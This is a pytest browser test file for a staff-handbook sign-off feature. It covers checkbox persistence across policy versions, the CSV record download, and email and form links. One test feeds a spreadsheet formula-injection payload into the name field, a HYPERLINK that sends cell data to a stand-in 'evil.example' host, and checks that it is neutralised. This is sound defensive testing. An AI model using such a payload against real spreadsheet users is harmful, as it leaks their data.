"""Sign-off in a real browser: keyboard ticks that survive a reload and a MINOR change,
are cleared by a MAJOR change, and a downloaded record with the right fields and hash."""

from __future__ import annotations

import csv
import hashlib
import io
from pathlib import Path

import pytest

from conftest import serve
from gitrepo import GitRepo
from sites import BOTH_HOOKS, build, policy, site_config

pytestmark = pytest.mark.browser

CONFIG = site_config("Sign-off browser test", hooks=BOTH_HOOKS, handbook={"fail_on": "never"})
POINTS = ["I know who the DSL is.", "I report concerns the same day.",
          "I never promise to keep a secret."]


def version(number: str, approved: str, body: str, points=POINTS) -> str:
    return policy("child-protection", title="Child protection", version=number,
                  approved=approved, change_summary=f"Version {number}.", sign_off=points,
                  body=body)


def test_ticks_versions_and_record(page, tmp_path):
    repo = GitRepo(tmp_path / "handbook")
    repo.write("mkdocs.yml", CONFIG)
    repo.write("docs/index.md", "# Home\n")
    source = version("2.0", "2026-01-10", "Tell the DSL the same day.\n")
    repo.commit("Child protection 2.0", "2026-01-10",
                **{"docs/policies/child-protection.md": source})
    site = tmp_path / "site"
    assert not build(repo.root, site_dir=site).aborted
    with serve(site) as url:
        page.clock.set_fixed_time("2026-11-30T10:00:00")
        page.goto(url + "policies/child-protection/")
        boxes = page.locator("[data-signoff-policy] input[type=checkbox]")
        assert boxes.count() == 3
        # Keyboard only: focus the first point, then Space, Tab, Space, Tab, Space.
        boxes.first.focus()
        for step in range(3):
            page.keyboard.press("Space")
            if step < 2:
                page.keyboard.press("Tab")
        assert [boxes.nth(i).is_checked() for i in range(3)] == [True, True, True]
        # An accessible name for every point: its own words.
        assert page.get_by_role("checkbox", name=POINTS[1]).is_checked()

        page.reload()
        assert [boxes.nth(i).is_checked() for i in range(3)] == [True, True, True]

        # The record: name and role, then a download with every field.
        page.get_by_label("Your name").fill("Asha Mensah")
        page.get_by_label("Your role").fill("Nursery Manager")
        with page.expect_download() as download:
            page.get_by_role("button", name="Confirm I have read and understood version 2.0")\
                .click()
        record = next(csv.DictReader(io.StringIO(
            download.value.path().read_text(encoding="utf-8"))))
        assert record["name"] == "Asha Mensah" and record["role"] == "Nursery Manager"
        assert record["policy_id"] == "child-protection" and record["version"] == "2.0"
        assert record["title"] == "Child protection"
        assert record["content_hash"] == hashlib.sha256(source.encode()).hexdigest()
        assert record["signed_on"] == "2026-11-30"
        assert record["signed_at"].startswith("2026-11-30T")
        assert download.value.suggested_filename == \
            "sign-off-child-protection-2.0-asha-mensah.csv"
        assert "Thank you" in page.locator("[data-signoff-done]").inner_text()

        # A MINOR change keeps the ticks, and says so.
        repo.commit("Child protection 2.1", "2026-02-01", **{
            "docs/policies/child-protection.md": version(
                "2.1", "2026-02-01", "Tell the DSL the same day (extension 201).\n")})
        assert not build(repo.root, site_dir=site).aborted
        page.reload()
        assert [boxes.nth(i).is_checked() for i in range(3)] == [True, True, True]
        assert "editorial changes only" in page.locator("[data-signoff-notice=info]").inner_text()

        # A MAJOR change clears them, says why, and links to what changed.
        repo.commit("Child protection 3.0", "2026-03-01", **{
            "docs/policies/child-protection.md": version(
                "3.0", "2026-03-01", "Tell the DSL straight away.\n",
                points=[*POINTS, "I record the child's own words."])})
        assert not build(repo.root, site_dir=site).aborted
        page.reload()
        assert boxes.count() == 4
        assert not any(boxes.nth(i).is_checked() for i in range(4))
        notice = page.locator("[data-signoff-notice=warning]")
        assert "changed substantially since you last confirmed it (you confirmed version 2.1)" \
            in notice.inner_text()
        notice.get_by_role("link", name="See what changed.").click()
        page.wait_for_url("**/history/child-protection/diff/2.1-3.0/")
        assert page.locator(".handbook-diff ins").first.inner_text()


def test_email_and_form_delivery(page, tmp_path):
    config = site_config(hooks=BOTH_HOOKS, handbook={
        "fail_on": "never", "history": False, "signoff_email": "office@willowbrook.example",
        "signoff_form_url": "https://forms.example.org/r/x?n={name}&d={policy_id}"
                            "&v={version}&h={content_hash}"})
    from sites import write_site

    root = write_site(tmp_path, {"policies/child-protection.md": version(
        "2.0", "2026-01-10", "Text.\n")}, config)
    built = build(root)
    assert not built.aborted
    with serve(built.site_dir) as url:
        page.goto(url + "policies/child-protection/")
        for box in page.locator("[data-signoff-policy] input[type=checkbox]").all():
            box.check()
        page.get_by_label("Your name").fill("Ben O'Brien & Co")
        page.get_by_label("Your role").fill("Room Leader")
        page.get_by_role("button", name="Confirm I have read and understood version 2.0").click()
        assert page.locator("[data-signoff-download]").count() == 0  # not asked for
        mail = page.locator("[data-signoff-email]").get_attribute("href")
        assert mail.startswith("mailto:office@willowbrook.example?subject=Sign-off%3A%20Child")
        assert "Ben%20O'Brien%20%26%20Co%2CRoom%20Leader%2Cchild-protection" in mail
        form = page.locator("[data-signoff-form-link]").get_attribute("href")
        digest = page.locator("[data-signoff-policy]").get_attribute("data-signoff-hash")
        assert form == ("https://forms.example.org/r/x?n=Ben%20O'Brien%20%26%20Co"
                        f"&d=child-protection&v=2.0&h={digest}")


def test_damaged_stored_ticks_and_unknown_placeholders(page, tmp_path):
    """Ticks stored by an older script (points not a list) do not break the section, and a
    form placeholder that is not a record field (even `{constructor}`) is left alone."""
    config = site_config(hooks=BOTH_HOOKS, handbook={
        "fail_on": "never", "history": False,
        "signoff_form_url": "https://forms.example.org/r/x?v={version}&c={constructor}"})
    from sites import write_site

    root = write_site(tmp_path, {"policies/child-protection.md": version(
        "2.0", "2026-01-10", "Text.\n")}, config)
    built = build(root)
    assert not built.aborted
    with serve(built.site_dir) as url:
        page.goto(url + "policies/child-protection/")
        page.evaluate("localStorage.setItem('handbook-signoff:child-protection', "
                      "JSON.stringify({version: '2.0', points: {broken: true}}))")
        page.reload()
        boxes = page.locator("[data-signoff-policy] input[type=checkbox]")
        assert boxes.count() == 3
        assert not any(box.is_checked() for box in boxes.all())
        for box in boxes.all():
            box.check()
        page.get_by_label("Your name").fill("Asha Mensah")
        page.get_by_label("Your role").fill("Nursery Manager")
        page.get_by_role("button", name="Confirm I have read and understood version 2.0").click()
        form = page.locator("[data-signoff-form-link]").get_attribute("href")
        assert form == "https://forms.example.org/r/x?v=2.0&c={constructor}"


def test_downloaded_record_neutralises_formulas_and_imports(page, tmp_path):
    """A name, role or title a spreadsheet would run as a formula is written with a ' in
    front, and the record still imports as the person's own."""
    import os
    import subprocess
    import sys

    from sites import write_site

    config = site_config(hooks=BOTH_HOOKS, handbook={
        "fail_on": "never", "history": False, "signoff_records": "staff/records"})
    root = write_site(tmp_path, {"policies/child-protection.md": policy(
        "child-protection", title="=1+2 Child protection", version="2.0",
        approved="2026-01-10", change_summary="Version 2.0.", sign_off=POINTS,
        body="Text.\n")}, config)
    built = build(root)
    assert not built.aborted
    name = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    with serve(built.site_dir) as url:
        page.clock.set_fixed_time("2026-11-30T10:00:00")
        page.goto(url + "policies/child-protection/")
        for box in page.locator("[data-signoff-policy] input[type=checkbox]").all():
            box.check()
        page.get_by_label("Your name").fill(name)
        page.get_by_label("Your role").fill("@SUM(1+1)")
        with page.expect_download() as download:
            page.get_by_role("button", name="Confirm I have read and understood version 2.0")\
                .click()
        text = download.value.path().read_text(encoding="utf-8")
    record = next(csv.DictReader(io.StringIO(text)))
    assert record["name"] == "'" + name
    assert record["role"] == "'@SUM(1+1)"
    assert record["title"] == "'=1+2 Child protection"
    assert record["policy_id"] == "child-protection" and record["version"] == "2.0"
    # Every cell of the file, header included, is safe to open in a spreadsheet.
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # `handbook signoff import` reads it back as what the person typed, and writes it safely.
    (root / "record.csv").write_text(text, encoding="utf-8")
    result = subprocess.run([str(Path(sys.executable).parent / "handbook"), "signoff",
                             "import", "record.csv"], cwd=root, capture_output=True, text=True,
                            timeout=120, env={**os.environ, "HANDBOOK_TODAY": "2026-11-30"})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "1 rows read: 1 records added" in result.stdout
    register = (root / "staff/records/sign-offs.csv").read_text(encoding="utf-8")
    row = next(csv.DictReader(io.StringIO(register)))
    assert row["name"] == "'" + name and row["role"] == "'@SUM(1+1)"
